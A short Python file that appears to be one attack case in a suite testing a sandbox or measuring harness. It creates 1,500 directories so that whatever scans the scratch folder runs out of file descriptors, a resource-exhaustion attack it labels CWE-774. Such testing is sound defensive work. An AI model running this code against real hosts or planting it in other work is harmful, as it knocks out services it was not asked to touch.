"""Make whoever measures open a thousand folders at once.

Attacks: the host's own descriptors, of which a notebook has 1,024.
How: 1,500 folders side by side in scratch.
Source: CWE-403's cousin CWE-774; reading the measuring of scratch folders.
Breach: the host has a hundred descriptors more than before at any moment.
"""

import os
import time

GROUP = "resources"


def attack(outside):
    for number in range(1500):
        os.mkdir(f"d{number}")
    time.sleep(1.5)
